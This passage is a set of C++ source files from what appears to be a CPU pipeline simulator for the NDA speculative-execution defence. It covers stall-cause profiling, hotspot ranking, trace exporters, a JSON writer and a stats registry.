      case StallCause::kLsqFull: return "lsq-full";
      case StallCause::kRobFull: return "rob-full";
      case StallCause::kSmtContention: return "smt-contention";
      case StallCause::kIdle: return "idle";
      case StallCause::kNumCauses: break;
    }
    return "?";
}

const char *
stallCauseStatName(StallCause c)
{
    switch (c) {
      case StallCause::kCommit: return "commit";
      case StallCause::kFrontend: return "frontend";
      case StallCause::kSquashBranch: return "squash_branch";
      case StallCause::kSquashMemOrder: return "squash_mem_order";
      case StallCause::kSquashFault: return "squash_fault";
      case StallCause::kSquashSerialize: return "squash_serialize";
      case StallCause::kNdaDeferLoad: return "nda_defer_load";
      case StallCause::kNdaDeferAlu: return "nda_defer_alu";
      case StallCause::kNdaDeferControl: return "nda_defer_control";
      case StallCause::kMemLatency: return "mem_latency";
      case StallCause::kMshrFull: return "mshr_full";
      case StallCause::kExecLatency: return "exec_latency";
      case StallCause::kIssueWait: return "issue_wait";
      case StallCause::kIqFull: return "iq_full";
      case StallCause::kLsqFull: return "lsq_full";
      case StallCause::kRobFull: return "rob_full";
      case StallCause::kSmtContention: return "smt_contention";
      case StallCause::kIdle: return "idle";
      case StallCause::kNumCauses: break;
    }
    return "?";
}

std::uint64_t
HotspotEntry::lostSlots() const
{
    std::uint64_t lost = 0;
    for (int c = 0; c < kNumStallCauses; ++c) {
        if (c == static_cast<int>(StallCause::kCommit) ||
            c == static_cast<int>(StallCause::kIdle)) {
            continue;
        }
        lost += slots[c];
    }
    return lost;
}

std::uint64_t
HotspotEntry::totalSlots() const
{
    std::uint64_t total = 0;
    for (std::uint64_t s : slots)
        total += s;
    return total;
}

void
HotspotProfiler::merge(const HotspotProfiler &other)
{
    for (const auto &[pc, slots] : other.table_) {
        auto &mine = table_[pc];
        for (int c = 0; c < kNumStallCauses; ++c)
            mine[c] += slots[c];
    }
}

void
HotspotProfiler::mergeEntry(const HotspotEntry &e)
{
    auto &mine = table_[e.pc];
    for (int c = 0; c < kNumStallCauses; ++c)
        mine[c] += e.slots[c];
}

std::vector<HotspotEntry>
HotspotProfiler::topN(std::size_t n) const
{
    std::vector<HotspotEntry> all;
    all.reserve(table_.size());
    for (const auto &[pc, slots] : table_) {
        HotspotEntry e;
        e.pc = pc;
        e.slots = slots;
        all.push_back(e);
    }
    std::sort(all.begin(), all.end(),
              [](const HotspotEntry &a, const HotspotEntry &b) {
                  const std::uint64_t la = a.lostSlots();
                  const std::uint64_t lb = b.lostSlots();
                  if (la != lb)
                      return la > lb;
                  return a.pc < b.pc;
              });
    if (all.size() > n)
        all.resize(n);
    return all;
}

std::string
HotspotProfiler::renderCollapsed(const std::string &root) const
{
    // Sorted by PC so the folded output is byte-identical for any
    // accumulation order; flamegraph.pl re-sorts anyway.
    std::vector<Addr> pcs;
    pcs.reserve(table_.size());
    for (const auto &[pc, slots] : table_)
        pcs.push_back(pc);
    std::sort(pcs.begin(), pcs.end());

    std::string out;
    for (Addr pc : pcs) {
        const auto &slots = table_.at(pc);
        for (int c = 0; c < kNumStallCauses; ++c) {
            if (!slots[c])
                continue;
            char line[160];
            std::snprintf(line, sizeof(line),
                          "%s;pc_0x%llx;%s %llu\n", root.c_str(),
                          static_cast<unsigned long long>(pc),
                          stallCauseName(static_cast<StallCause>(c)),
                          static_cast<unsigned long long>(slots[c]));
            out += line;
        }
    }
    return out;
}

std::string
HotspotProfiler::topJson(std::size_t n) const
{
    JsonWriter w(false);
    w.beginArray();
    for (const HotspotEntry &e : topN(n)) {
        w.beginObject();
        char pcbuf[24];
        std::snprintf(pcbuf, sizeof(pcbuf), "0x%llx",
                      static_cast<unsigned long long>(e.pc));
        w.key("pc");
        w.value(pcbuf);
        w.key("lost_slots");
        w.value(e.lostSlots());
        w.key("slots");
        w.beginObject();
        for (int c = 0; c < kNumStallCauses; ++c) {
            if (!e.slots[c])
                continue;
            w.key(stallCauseStatName(static_cast<StallCause>(c)));
            w.value(e.slots[c]);
        }
        w.endObject();
        w.endObject();
    }
    w.endArray();
    return w.str();
}

} // namespace nda
