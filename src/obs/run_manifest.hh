/**
 * @file
 * Per-run manifest: a single JSON document capturing *what produced
 * these numbers* — bench name, config profile, seed, thread count,
 * source revision, wall-clock phase timings, free-form result fields,
 * and the full stats-registry dump. Every bench binary emits one via
 * `--stats-out=`, so a results directory is self-describing.
 */

#ifndef NDASIM_OBS_RUN_MANIFEST_HH
#define NDASIM_OBS_RUN_MANIFEST_HH

#include <cstdint>
#include <string>
#include <vector>

#include "obs/scoped_timer.hh"
#include "obs/stats_registry.hh"

namespace nda {

/** Builder for the manifest JSON. Keys render in insertion order. */
class RunManifest
{
  public:
    explicit RunManifest(std::string bench) : bench_(std::move(bench)) {}

    /** `git describe` of the built source ("unknown" outside git). */
    static const char *gitDescribe();

    // Free-form result fields, rendered under "fields" in order.
    void set(const std::string &key, const std::string &value);
    void set(const std::string &key, const char *value);
    void set(const std::string &key, std::uint64_t value);
    void set(const std::string &key, double value);
    void set(const std::string &key, bool value);

    /** Splice a pre-rendered JSON value (object/array) under `key` —
     *  used for structured payloads like CPI-stack hotspot lists that
     *  the scalar setters cannot express. `json` must be valid JSON;
     *  it is re-indented, not validated. */
    void setRaw(const std::string &key, std::string json);

    /** Attach wall-clock phase timings (borrowed; must outlive any
     *  toJson/writeFile call). */
    void setTimings(const PhaseTimings *t) { timings_ = t; }

    /** Attach the stats registry whose dump becomes "stats"
     *  (borrowed, same lifetime rule — dump happens at render). */
    void setStats(const StatsRegistry *reg) { stats_ = reg; }

    std::string toJson() const;

    /** Write toJson() to `path`; NDA_WARNs and returns false on I/O
     *  failure instead of aborting the run that produced the data. */
    bool writeFile(const std::string &path) const;

  private:
    enum class FieldKind : std::uint8_t {
        kString, kUint, kDouble, kBool, kRaw
    };
    struct Field {
        std::string key;
        FieldKind kind;
        std::string s;
        std::uint64_t u = 0;
        double d = 0.0;
        bool b = false;
    };

    Field &addField(const std::string &key, FieldKind kind);

    std::string bench_;
    std::vector<Field> fields_;
    const PhaseTimings *timings_ = nullptr;
    const StatsRegistry *stats_ = nullptr;
};

} // namespace nda

#endif // NDASIM_OBS_RUN_MANIFEST_HH
