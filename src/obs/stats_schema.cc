#include "obs/stats_schema.hh"

#include "core/core_factory.hh"
#include "dift/secret_map.hh"
#include "dift/taint_engine.hh"
#include "fuzz/differential_fuzzer.hh"
#include "harness/profiles.hh"
#include "harness/runner.hh"
#include "obs/cpi_stack.hh"
#include "obs/stats_registry.hh"
#include "workloads/workload.hh"

namespace nda {

std::vector<std::string>
canonicalStatsSchema()
{
    // Any workload/seed yields the same names; registration depends
    // only on the machine's structure, never on simulated state.
    const auto workload = makeWorkload("mixed");
    const Program prog = workload->build(1);
    const SimConfig cfg = makeProfile(Profile::kStrict);
    const auto core = makeCore(prog, cfg);

    StatsRegistry reg;
    core->registerStats(reg, "core");

    // The CPI-stack profiler binds under the core it observes, as the
    // instrumented-window path (bench_common.hh) wires it.
    const CpiStackProfiler cpi(cfg.core.commitWidth);
    cpi.registerStats(reg, "core.cpi_stack");

    TaintEngine dift{SecretMap{}};
    dift.registerStats(reg, "dift");

    FuzzResult fuzz;
    fuzz.registerStats(reg, "fuzz");

    GridStats grid;
    grid.registerStats(reg, "harness");

    return reg.names();
}

} // namespace nda
