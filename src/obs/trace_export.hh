/**
 * @file
 * Pipeline-trace exporters: render the InstTraceRecords collected by
 * debug::PipeTrace into external visualizer formats —
 *
 *  - Chrome trace_event JSON (chrome://tracing, Perfetto): one track
 *    per instruction, duration slices per pipeline phase, with the
 *    NDA complete->broadcast deferral as its own "nda_defer" slice
 *    and unsafe-mark/clear + squash-cause instant events.
 *  - Konata/Kanata pipeline log ("Kanata 0004"): gem5-O3-pipeview
 *    style, loadable in the Konata viewer.
 *  - Plain-text waterfall (debug::renderWaterfall) for terminals.
 *
 * Exporters are pure functions of the record vector, so tests drive
 * them with synthetic records and golden files stay stable as the
 * simulator's timing evolves.
 */

#ifndef NDASIM_OBS_TRACE_EXPORT_HH
#define NDASIM_OBS_TRACE_EXPORT_HH

#include <cstdint>
#include <string>
#include <vector>

#include "debug/pipe_trace.hh"

namespace nda {

enum class TraceFormat : std::uint8_t { kChrome, kKonata, kText };

const char *traceFormatName(TraceFormat f);

/** Parse "chrome" / "konata" / "text"; false on anything else. */
bool parseTraceFormat(const std::string &s, TraceFormat &out);

/** Conventional file extension (without dot) for a format. */
const char *traceFormatExtension(TraceFormat f);

/** Renders a record vector in any supported trace format. */
class TraceExporter
{
  public:
    explicit TraceExporter(std::vector<InstTraceRecord> records)
        : records_(std::move(records))
    {
    }

    /** Chrome trace_event JSON object (Perfetto-loadable). Cycles
     *  map 1:1 to microseconds in the `ts`/`dur` fields. */
    std::string exportChrome() const;

    /** Konata pipeline log, header "Kanata\t0004". */
    std::string exportKonata() const;

    /** Terminal waterfall over all records. */
    std::string exportText(unsigned width = 96) const;

    std::string render(TraceFormat f) const;

    const std::vector<InstTraceRecord> &records() const
    {
        return records_;
    }

  private:
    std::vector<InstTraceRecord> records_;
};

} // namespace nda

#endif // NDASIM_OBS_TRACE_EXPORT_HH
