#include "obs/cpi_stack.hh"

#include <algorithm>

#include "obs/stats_registry.hh"

namespace nda {

std::uint64_t
CpiStackProfiler::accountedSlots() const
{
    std::uint64_t sum = 0;
    for (std::uint64_t s : slots_)
        sum += s;
    return sum;
}

double
CpiStackProfiler::slotFraction(StallCause cause) const
{
    const std::uint64_t total = totalSlots();
    return total ? static_cast<double>(slots(cause)) / total : 0.0;
}

void
CpiStackProfiler::reset()
{
    cycles_ = 0;
    std::fill(std::begin(slots_), std::end(slots_), 0);
    hotspots_.reset();
}

void
CpiStackProfiler::registerStats(StatsRegistry &reg,
                                const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);

    g.formula("width", [this] { return width_; },
              "commit slots per cycle the identity is defined against");
    g.counter("cycles", &cycles_, "cycles attributed by the profiler");
    g.formula("total_slots",
              [this] { return static_cast<double>(totalSlots()); },
              "width x cycles: the identity's right-hand side");
    g.formula("unaccounted",
              [this] {
                  return static_cast<double>(totalSlots()) -
                         static_cast<double>(accountedSlots());
              },
              "total_slots minus all cause buckets (must be 0)");

    const StatsRegistry::Group s = g.group("slots");
    static const char *const descs[kNumStallCauses] = {
        "slots that retired an instruction",
        "slots lost to fetch/decode starvation (ROB empty)",
        "slots lost refetching after branch-mispredict squashes",
        "slots lost refetching after memory-order squashes",
        "slots lost to trap delivery and post-fault refetch",
        "slots lost to serializing specon/specoff refetches",
        "slots lost behind an NDA-deferred load producer",
        "slots lost behind an NDA-deferred ALU producer",
        "slots lost behind an NDA-deferred control producer",
        "slots lost behind an in-flight memory access",
        "slots lost to MSHR-full structural rejects",
        "slots lost behind in-flight non-memory execution",
        "slots lost to issue-port arbitration and wakeup",
        "slots lost to issue-queue capacity at dispatch",
        "slots lost to LQ/SQ capacity at dispatch",
        "slots lost to ROB/phys-reg capacity at dispatch",
        "slots a co-resident SMT thread retired into",
        "slots at window edges with nothing to account",
    };
    for (int c = 0; c < kNumStallCauses; ++c) {
        s.counter(stallCauseStatName(static_cast<StallCause>(c)),
                  &slots_[c], descs[c]);
    }
}

} // namespace nda
