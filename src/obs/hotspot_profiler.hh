/**
 * @file
 * Per-PC hotspot aggregation for the causal CPI stack. Every commit
 * slot the core attributes (obs/cpi_stack.hh) carries the *root* PC
 * of its cause — the deferred producer for an NDA stall, the
 * mispredicted branch for a squash-refetch slot, the retiring
 * instruction for a commit slot — and this profiler folds those into
 * a pc -> per-cause slot table with top-N ranking and a collapsed
 * stack ("folded") text rendering that flamegraph tooling consumes
 * directly.
 *
 * StallCause itself lives here, at the bottom of the obs profiler
 * stack, so both this aggregator and the CpiStackProfiler above it
 * share one definition; cpi_stack.hh re-exports it.
 */

#ifndef NDASIM_OBS_HOTSPOT_PROFILER_HH
#define NDASIM_OBS_HOTSPOT_PROFILER_HH

#include <array>
#include <cstdint>
#include <string>
#include <unordered_map>
#include <vector>

#include "common/types.hh"

namespace nda {

/**
 * Root cause of one commit slot. kCommit is the productive bucket;
 * every other value names why a slot retired nothing. The NDA buckets
 * split the tag-broadcast deferral by the *producer's* class, which
 * is the paper's policy axis (branch restriction defers ALU/control
 * producers, load restriction defers load producers).
 */
enum class StallCause : std::uint8_t {
    kCommit = 0,       ///< slot retired an instruction
    kFrontend,         ///< ROB empty: fetch/decode starvation
    kSquashBranch,     ///< refetch after a branch-mispredict squash
    kSquashMemOrder,   ///< refetch after a memory-order squash
    kSquashFault,      ///< trap delivery wait + post-fault refetch
    kSquashSerialize,  ///< specon/specoff serializing refetch
    kNdaDeferLoad,     ///< chain blocked on a deferred load producer
    kNdaDeferAlu,      ///< chain blocked on a deferred ALU producer
    kNdaDeferControl,  ///< chain blocked on a deferred control producer
    kMemLatency,       ///< chain blocked on an in-flight memory access
    kMshrFull,         ///< MSHR-full structural reject (load or store)
    kExecLatency,      ///< chain blocked on in-flight non-memory work
    kIssueWait,        ///< ready but unselected (ports, fences, wake)
    kIqFull,           ///< dispatch blocked: issue queue capacity
    kLsqFull,          ///< dispatch blocked: LQ/SQ capacity
    kRobFull,          ///< dispatch blocked: ROB/phys-reg capacity
    kSmtContention,    ///< slot retired by the other hardware thread
    kIdle,             ///< window edge / halted: nothing to account
    kNumCauses,
};

constexpr int kNumStallCauses =
    static_cast<int>(StallCause::kNumCauses);

/** Display name ("nda-defer-load"); never null, all values distinct. */
const char *stallCauseName(StallCause c);

/** Stats-schema leaf name ("nda_defer_load"); snake_case, distinct. */
const char *stallCauseStatName(StallCause c);

/** One ranked hotspot: a PC and its per-cause slot counts. */
struct HotspotEntry {
    Addr pc = 0;
    std::array<std::uint64_t, kNumStallCauses> slots{};

    /** Slots lost at this PC (everything but kCommit/kIdle). */
    std::uint64_t lostSlots() const;
    /** All slots recorded at this PC. */
    std::uint64_t totalSlots() const;

    bool
    operator==(const HotspotEntry &o) const
    {
        return pc == o.pc && slots == o.slots;
    }
};

/** pc -> per-cause slot aggregation with deterministic ranking. */
class HotspotProfiler
{
  public:
    void
    record(Addr pc, StallCause cause, std::uint64_t n)
    {
        table_[pc][static_cast<int>(cause)] += n;
    }

    std::size_t size() const { return table_.size(); }
    bool empty() const { return table_.empty(); }

    void reset() { table_.clear(); }

    /** Fold another profiler's table into this one (window reduce). */
    void merge(const HotspotProfiler &other);

    /** Fold a ranked entry back in (cross-window aggregation). */
    void mergeEntry(const HotspotEntry &e);

    /**
     * The `n` PCs losing the most slots, ranked by lost slots
     * descending with PC ascending as the tie-break, so the ranking
     * is deterministic for any accumulation order.
     */
    std::vector<HotspotEntry> topN(std::size_t n) const;

    /**
     * Collapsed-stack ("folded") text: one line per nonzero
     * (pc, cause) pair, `root;pc_0x2a;nda-defer-load 123`, sorted —
     * `flamegraph.pl` and speedscope consume this directly.
     */
    std::string renderCollapsed(const std::string &root) const;

    /** JSON array of the top `n` entries (for run manifests). */
    std::string topJson(std::size_t n) const;

  private:
    std::unordered_map<Addr,
                       std::array<std::uint64_t, kNumStallCauses>>
        table_;
};

} // namespace nda

#endif // NDASIM_OBS_HOTSPOT_PROFILER_HH
