#include "obs/trace_export.hh"

#include <algorithm>
#include <cstdio>

#include "core/perf_counters.hh"
#include "obs/json_writer.hh"

namespace nda {

const char *
traceFormatName(TraceFormat f)
{
    switch (f) {
      case TraceFormat::kChrome: return "chrome";
      case TraceFormat::kKonata: return "konata";
      case TraceFormat::kText: return "text";
      default: return "?";
    }
}

bool
parseTraceFormat(const std::string &s, TraceFormat &out)
{
    if (s == "chrome") {
        out = TraceFormat::kChrome;
    } else if (s == "konata") {
        out = TraceFormat::kKonata;
    } else if (s == "text") {
        out = TraceFormat::kText;
    } else {
        return false;
    }
    return true;
}

const char *
traceFormatExtension(TraceFormat f)
{
    switch (f) {
      case TraceFormat::kChrome: return "json";
      case TraceFormat::kKonata: return "kanata";
      case TraceFormat::kText: return "txt";
      default: return "txt";
    }
}

namespace {

std::string
hexPc(Addr pc)
{
    char buf[24];
    std::snprintf(buf, sizeof(buf), "0x%llx",
                  static_cast<unsigned long long>(pc));
    return buf;
}

/** One duration slice: ph "X", ts/dur in "microseconds" (cycles). */
void
sliceEvent(JsonWriter &w, const InstTraceRecord &r,
           const char *name, const char *cat, Cycle start, Cycle end)
{
    w.beginObject();
    w.key("name");
    w.value(name);
    w.key("cat");
    w.value(cat);
    w.key("ph");
    w.value("X");
    w.key("ts");
    w.value(static_cast<std::uint64_t>(start));
    w.key("dur");
    w.value(static_cast<std::uint64_t>(end > start ? end - start : 0));
    w.key("pid");
    w.value(0);
    w.key("tid");
    w.value(static_cast<std::uint64_t>(r.seq));
    w.key("args");
    w.beginObject();
    w.key("seq");
    w.value(static_cast<std::uint64_t>(r.seq));
    w.key("pc");
    w.value(hexPc(r.pc));
    w.endObject();
    w.endObject();
}

void
instantEvent(JsonWriter &w, const InstTraceRecord &r, const char *name,
             const char *cat, Cycle at, const char *detail)
{
    w.beginObject();
    w.key("name");
    w.value(name);
    w.key("cat");
    w.value(cat);
    w.key("ph");
    w.value("i");
    w.key("s");
    w.value("t"); // thread-scoped instant
    w.key("ts");
    w.value(static_cast<std::uint64_t>(at));
    w.key("pid");
    w.value(0);
    w.key("tid");
    w.value(static_cast<std::uint64_t>(r.seq));
    w.key("args");
    w.beginObject();
    w.key("seq");
    w.value(static_cast<std::uint64_t>(r.seq));
    if (detail) {
        w.key("detail");
        w.value(detail);
    }
    w.endObject();
    w.endObject();
}

void
threadMeta(JsonWriter &w, const InstTraceRecord &r, std::size_t index)
{
    w.beginObject();
    w.key("name");
    w.value("thread_name");
    w.key("ph");
    w.value("M");
    w.key("pid");
    w.value(0);
    w.key("tid");
    w.value(static_cast<std::uint64_t>(r.seq));
    w.key("args");
    w.beginObject();
    char label[96];
    std::snprintf(label, sizeof(label), "%llu %s %s",
                  static_cast<unsigned long long>(r.seq),
                  hexPc(r.pc).c_str(), r.disasm.c_str());
    w.key("name");
    w.value(label);
    w.endObject();
    w.endObject();

    w.beginObject();
    w.key("name");
    w.value("thread_sort_index");
    w.key("ph");
    w.value("M");
    w.key("pid");
    w.value(0);
    w.key("tid");
    w.value(static_cast<std::uint64_t>(r.seq));
    w.key("args");
    w.beginObject();
    w.key("sort_index");
    w.value(static_cast<std::uint64_t>(index));
    w.endObject();
    w.endObject();
}

} // namespace

std::string
TraceExporter::exportChrome() const
{
    JsonWriter w;
    w.beginObject();
    w.key("displayTimeUnit");
    w.value("ms");
    w.key("traceEvents");
    w.beginArray();

    // Process metadata track.
    w.beginObject();
    w.key("name");
    w.value("process_name");
    w.key("ph");
    w.value("M");
    w.key("pid");
    w.value(0);
    w.key("args");
    w.beginObject();
    w.key("name");
    w.value("ndasim pipeline (1 cycle = 1us)");
    w.endObject();
    w.endObject();

    std::size_t index = 0;
    for (const InstTraceRecord &r : records_) {
        threadMeta(w, r, index++);

        if (r.dispatched >= r.fetched)
            sliceEvent(w, r, "fetch", "pipe", r.fetched, r.dispatched);
        if (r.issued >= r.dispatched && r.issued > 0) {
            sliceEvent(w, r, "dispatch", "pipe", r.dispatched,
                       r.issued);
            if (r.completed >= r.issued)
                sliceEvent(w, r, "execute", "pipe", r.issued,
                           r.completed);
        }
        // The NDA signature: completion happened, but the tag
        // broadcast (dependent wake-up) was held back.
        if (r.broadcasted > r.completed && r.completed > 0) {
            sliceEvent(w, r, "nda_defer", "nda", r.completed,
                       r.broadcasted);
        }
        const Cycle done = std::max(r.completed, r.broadcasted);
        if (r.retired >= done && done > 0)
            sliceEvent(w, r, "commit-wait", "pipe", done, r.retired);

        if (r.wasUnsafe && r.unsafeMarkedAt > 0) {
            instantEvent(w, r, "unsafe-mark", "nda", r.unsafeMarkedAt,
                         nullptr);
        }
        if (r.wasUnsafe && r.unsafeClearedAt > 0) {
            instantEvent(w, r, "unsafe-clear", "nda",
                         r.unsafeClearedAt, nullptr);
        }
        if (r.squashed) {
            instantEvent(w, r, "squash", "squash", r.retired,
                         squashCauseName(r.squashCause));
        }
    }

    w.endArray();
    w.endObject();
    return w.str();
}

std::string
TraceExporter::exportKonata() const
{
    // The Kanata log is cycle-ordered command lines; collect each
    // record's commands keyed by (cycle, emission order) then emit
    // with "C <delta>" advancing the clock.
    struct Cmd {
        Cycle cycle;
        std::uint64_t order;
        std::string text;
    };
    std::vector<Cmd> cmds;
    cmds.reserve(records_.size() * 8);
    std::uint64_t order = 0;
    char buf[192];

    auto push = [&](Cycle cycle, const char *fmt, auto... args) {
        std::snprintf(buf, sizeof(buf), fmt, args...);
        cmds.push_back(Cmd{cycle, order++, buf});
    };

    std::uint64_t uid = 0;
    std::uint64_t retire_id = 0;
    for (const InstTraceRecord &r : records_) {
        const auto id = static_cast<unsigned long long>(uid++);
        const auto seq = static_cast<unsigned long long>(r.seq);
        push(r.fetched, "I\t%llu\t%llu\t0", id, seq);
        push(r.fetched, "L\t%llu\t0\t%llu: %s %s", id, seq,
             hexPc(r.pc).c_str(), r.disasm.c_str());
        if (r.wasUnsafe)
            push(r.fetched, "L\t%llu\t1\tNDA-unsafe", id);
        push(r.fetched, "S\t%llu\t0\tF", id);

        const char *open = "F"; // currently-open lane-0 stage
        auto stage = [&](Cycle cycle, const char *name) {
            push(cycle, "E\t%llu\t0\t%s", id, open);
            push(cycle, "S\t%llu\t0\t%s", id, name);
            open = name;
        };
        if (r.dispatched >= r.fetched)
            stage(r.dispatched, "D");
        if (r.issued >= r.dispatched && r.issued > 0) {
            stage(r.issued, "X");
            if (r.completed >= r.issued) {
                // B renders the deferred-broadcast wait; an immediate
                // broadcast gives it zero width.
                stage(r.completed, "B");
                const Cycle bc = std::max(r.completed, r.broadcasted);
                stage(bc, "C");
            }
        }
        push(r.retired, "E\t%llu\t0\t%s", id, open);
        push(r.retired, "R\t%llu\t%llu\t%d", id,
             static_cast<unsigned long long>(r.squashed ? 0
                                                        : retire_id++),
             r.squashed ? 1 : 0);
    }

    std::stable_sort(cmds.begin(), cmds.end(),
                     [](const Cmd &a, const Cmd &b) {
                         return a.cycle != b.cycle
                                    ? a.cycle < b.cycle
                                    : a.order < b.order;
                     });

    std::string out = "Kanata\t0004\n";
    if (cmds.empty())
        return out;
    Cycle now = cmds.front().cycle;
    std::snprintf(buf, sizeof(buf), "C=\t%llu\n",
                  static_cast<unsigned long long>(now));
    out += buf;
    for (const Cmd &c : cmds) {
        if (c.cycle > now) {
            std::snprintf(buf, sizeof(buf), "C\t%llu\n",
                          static_cast<unsigned long long>(c.cycle -
                                                          now));
            out += buf;
            now = c.cycle;
        }
        out += c.text;
        out += '\n';
    }
    return out;
}

std::string
TraceExporter::exportText(unsigned width) const
{
    return renderWaterfall(records_, 0, records_.size(), width);
}

std::string
TraceExporter::render(TraceFormat f) const
{
    switch (f) {
      case TraceFormat::kChrome: return exportChrome();
      case TraceFormat::kKonata: return exportKonata();
      case TraceFormat::kText: return exportText();
      default: return "";
    }
}

} // namespace nda
