/**
 * @file
 * Minimal streaming JSON writer used by the observability layer
 * (stats dumps, trace export, run manifests). Emits deterministic,
 * diffable output: keys in insertion order, fixed float formatting,
 * two-space indentation. Values are appended to an internal string;
 * the writer never allocates a DOM.
 */

#ifndef NDASIM_OBS_JSON_WRITER_HH
#define NDASIM_OBS_JSON_WRITER_HH

#include <cmath>
#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

namespace nda {

/** Escape `s` for embedding inside a JSON string literal. */
inline std::string
jsonEscape(const std::string &s)
{
    std::string out;
    out.reserve(s.size() + 2);
    for (unsigned char c : s) {
        switch (c) {
          case '"': out += "\\\""; break;
          case '\\': out += "\\\\"; break;
          case '\n': out += "\\n"; break;
          case '\r': out += "\\r"; break;
          case '\t': out += "\\t"; break;
          default:
            if (c < 0x20) {
                char buf[8];
                std::snprintf(buf, sizeof(buf), "\\u%04x", c);
                out += buf;
            } else {
                out += static_cast<char>(c);
            }
        }
    }
    return out;
}

/**
 * Structured JSON emitter. Usage:
 *
 *   JsonWriter w;
 *   w.beginObject();
 *   w.key("cycles"); w.value(std::uint64_t{42});
 *   w.key("stats"); w.beginObject(); ... w.endObject();
 *   w.endObject();
 *   std::string json = w.str();
 */
class JsonWriter
{
  public:
    explicit JsonWriter(bool pretty = true) : pretty_(pretty) {}

    void
    beginObject()
    {
        openValue();
        out_ += '{';
        stack_.push_back({true, 0});
    }

    void
    endObject()
    {
        const bool had = stack_.back().count > 0;
        stack_.pop_back();
        if (had)
            newline();
        out_ += '}';
    }

    void
    beginArray()
    {
        openValue();
        out_ += '[';
        stack_.push_back({false, 0});
    }

    void
    endArray()
    {
        const bool had = stack_.back().count > 0;
        stack_.pop_back();
        if (had)
            newline();
        out_ += ']';
    }

    void
    key(const std::string &name)
    {
        comma();
        newline();
        out_ += '"';
        out_ += jsonEscape(name);
        out_ += pretty_ ? "\": " : "\":";
        pendingKey_ = true;
    }

    void
    value(const std::string &s)
    {
        openValue();
        out_ += '"';
        out_ += jsonEscape(s);
        out_ += '"';
    }

    void value(const char *s) { value(std::string(s)); }

    void
    value(std::uint64_t v)
    {
        openValue();
        out_ += std::to_string(v);
    }

    void value(int v) { value(static_cast<std::int64_t>(v)); }
    void value(unsigned v) { value(static_cast<std::uint64_t>(v)); }

    void
    value(std::int64_t v)
    {
        openValue();
        out_ += std::to_string(v);
    }

    void
    value(double v)
    {
        openValue();
        if (!std::isfinite(v)) {
            out_ += "null"; // JSON has no inf/nan
            return;
        }
        char buf[48];
        std::snprintf(buf, sizeof(buf), "%.6g", v);
        out_ += buf;
    }

    void
    value(bool v)
    {
        openValue();
        out_ += v ? "true" : "false";
    }

    /** Append pre-rendered JSON (e.g. a nested stats dump),
     *  re-indented to the current depth. Only structural newlines can
     *  occur in rendered JSON (strings escape theirs), so a plain
     *  after-newline pad is safe. */
    void
    raw(const std::string &json)
    {
        openValue();
        if (!pretty_) {
            out_ += json;
            return;
        }
        const std::string pad(stack_.size() * 2, ' ');
        for (char c : json) {
            out_ += c;
            if (c == '\n')
                out_ += pad;
        }
    }

    const std::string &str() const { return out_; }

  private:
    struct Frame {
        bool isObject;
        std::size_t count;
    };

    void
    comma()
    {
        if (!stack_.empty() && stack_.back().count++ > 0)
            out_ += ',';
    }

    void
    newline()
    {
        if (!pretty_)
            return;
        out_ += '\n';
        out_.append(stack_.size() * 2, ' ');
    }

    /** Bookkeeping before any value: arrays get comma+newline, object
     *  values consume the pending key. */
    void
    openValue()
    {
        if (pendingKey_) {
            pendingKey_ = false;
            return;
        }
        if (!stack_.empty() && !stack_.back().isObject) {
            comma();
            newline();
        }
    }

    bool pretty_;
    bool pendingKey_ = false;
    std::string out_;
    std::vector<Frame> stack_;
};

} // namespace nda

#endif // NDASIM_OBS_JSON_WRITER_HH
