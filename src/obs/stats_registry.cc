#include "obs/stats_registry.hh"

#include <algorithm>
#include <cstdio>

#include "common/log.hh"
#include "obs/json_writer.hh"

namespace nda {

void
StatsRegistry::addStat(Stat s)
{
    for (const Stat &existing : stats_) {
        NDA_ASSERT(existing.name != s.name,
                   "duplicate stat registration '%s'", s.name.c_str());
        // A name cannot be both a leaf and a group ("core" vs
        // "core.x"): the JSON dump would emit a duplicate key.
        const bool nests =
            existing.name.rfind(s.name + ".", 0) == 0 ||
            s.name.rfind(existing.name + ".", 0) == 0;
        NDA_ASSERT(!nests, "stat '%s' collides with group of '%s'",
                   s.name.c_str(), existing.name.c_str());
    }
    stats_.push_back(std::move(s));
}

void
StatsRegistry::addCounter(const std::string &name,
                          const std::uint64_t *v,
                          const std::string &desc)
{
    NDA_ASSERT(v != nullptr, "stat '%s' bound to null", name.c_str());
    Stat s;
    s.name = name;
    s.desc = desc;
    s.kind = Kind::kCounter;
    s.counter = v;
    addStat(std::move(s));
}

void
StatsRegistry::addFormula(const std::string &name,
                          std::function<double()> f,
                          const std::string &desc)
{
    NDA_ASSERT(static_cast<bool>(f), "formula stat '%s' is empty",
               name.c_str());
    Stat s;
    s.name = name;
    s.desc = desc;
    s.kind = Kind::kFormula;
    s.formula = std::move(f);
    addStat(std::move(s));
}

void
StatsRegistry::addHistogram(const std::string &name, const Histogram *h,
                            const std::string &desc)
{
    NDA_ASSERT(h != nullptr, "stat '%s' bound to null", name.c_str());
    Stat s;
    s.name = name;
    s.desc = desc;
    s.kind = Kind::kHistogram;
    s.hist = h;
    addStat(std::move(s));
}

std::vector<std::string>
StatsRegistry::names() const
{
    std::vector<std::string> out;
    out.reserve(stats_.size());
    for (const Stat &s : stats_)
        out.push_back(s.name);
    std::sort(out.begin(), out.end());
    return out;
}

std::string
StatsRegistry::dumpJson() const
{
    // Sort by full name so siblings group together, then walk the
    // dotted paths maintaining a stack of open objects.
    std::vector<const Stat *> sorted;
    sorted.reserve(stats_.size());
    for (const Stat &s : stats_)
        sorted.push_back(&s);
    std::sort(sorted.begin(), sorted.end(),
              [](const Stat *a, const Stat *b) {
                  return a->name < b->name;
              });

    auto split = [](const std::string &name) {
        std::vector<std::string> parts;
        std::size_t start = 0;
        for (std::size_t dot = name.find('.'); dot != std::string::npos;
             dot = name.find('.', start)) {
            parts.push_back(name.substr(start, dot - start));
            start = dot + 1;
        }
        parts.push_back(name.substr(start));
        return parts;
    };

    JsonWriter w;
    w.beginObject();
    std::vector<std::string> open; // currently open group path
    for (const Stat *s : sorted) {
        const std::vector<std::string> parts = split(s->name);
        // Close groups that are no longer a prefix of this stat.
        std::size_t common = 0;
        while (common < open.size() && common + 1 < parts.size() &&
               open[common] == parts[common]) {
            ++common;
        }
        while (open.size() > common) {
            w.endObject();
            open.pop_back();
        }
        // Open the missing groups.
        for (std::size_t i = open.size(); i + 1 < parts.size(); ++i) {
            w.key(parts[i]);
            w.beginObject();
            open.push_back(parts[i]);
        }
        w.key(parts.back());
        switch (s->kind) {
